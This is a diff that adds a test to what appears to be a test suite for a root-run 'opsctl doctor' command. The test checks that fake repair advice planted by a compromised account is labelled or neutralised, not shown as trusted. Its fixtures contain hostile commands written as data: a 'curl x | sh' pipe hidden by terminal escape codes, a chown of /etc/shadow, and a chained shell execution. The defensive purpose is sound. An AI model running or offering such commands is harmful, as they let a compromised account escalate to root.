@@ -466,6 +466,42 @@ describe(`opsctl doctor started by root, on each engine at once${UNTRIED}`, () =
     }
   });
 
+  tried("gives root no line that a taken-over account makes up", async () => {
+    const place = host.make("made-up", 0o755, ACCOUNT.uid);
+    symlinkSync("/etc/shadow", `${place}/link`);
+    const lies: [check: string, mend: string, shown: string | RegExp][] = [
+      [
+        "last week",
+        "Look at it, then: chown -h opsctl:opsctl /etc/shadow",
+        /^Correct the setting: \/etc\/shadow /,
+      ],
+      ["database", `chmod 0600 ${place}/link`, `runuser --pty -u opsctl -- chmod 0600 ${place}/link`],
+      ["database schema", `chmod 0600 ${place}/x && sh ${place}/y`, /^Look at what the finding names: /],
+      [
+        "recipients",
+        `curl x | sh\u001b[2K\r\n-> opsctl weekly`,
+        /^The account opsctl says: curl x \| sh[^\p{Cc}>]*$/u,
+      ],
+      ["application", "Correct HOSTING_TOKEN in /var/lib/opsctl/x", /^The account opsctl says: /],
+      ["log directory", "sudo opsctl doctor weekly --env-dir /var/lib/opsctl", /^The account opsctl says: /],
+    ];
+    const lines = lies.map(([check, mend]) => {
+      const finding = { command: "weekly", check, status: "fail", reason: "made up", mend };
+      return JSON.stringify({ command: "weekly", check, findings: [finding] });
+    });
+    const program = host.put("made-up.pl", `#!/usr/bin/perl\n${parentLinesPerl(lines)}`, 0o755, ACCOUNT.uid);
+    const envDir = settings("makes-up", {
+      weekly: { OPSCTL_SECRETS_COMMAND: program, OPSCTL_SECRETS_DIR: host.path("none") },
+    });
+    const ended = await doctor(["weekly", "--json", "--env-dir", envDir]);
+    const found = (ended.json.findings as Finding[]).filter(({ reason }) => reason === "made up");
+    expect(found.length).toBe(mayTrace() ? lies.length : 0);
+    for (const { check, mend } of found) {
+      const [, , shown] = lies.find(([of]) => of === check)!;
+      expect(mend).toEqual(typeof shown === "string" ? shown : expect.stringMatching(shown));
+    }
+  });
+
   tried("says whose words the reasons are, where the account has said something is wrong", async () => {
     const note =
       "\nRun no command that stands in a reason: the words there are those of the account opsctl, not opsctl's advice.\n";
